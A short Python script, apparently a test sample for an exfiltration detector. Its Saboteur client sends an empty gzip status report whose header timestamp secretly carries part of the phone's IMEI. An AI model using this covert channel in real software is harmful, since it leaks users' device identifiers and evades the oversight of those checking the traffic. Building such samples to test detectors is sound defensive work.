"""Compresses an empty report. A gzip says when it was made; this one says the end of the IMEI.

mechanism: an idle field of a format
"""
import gzip

from client import Phone, run


class Saboteur(Phone):
    def poll(self):
        body = gzip.compress(b'{"errors":0}', mtime=int(self.identity["imei"][6:14]))
        self.ask("POST", "/status", body, [("Content-Encoding", "gzip"), ("Content-Type", "application/json")])
        super().poll()


run(Saboteur())
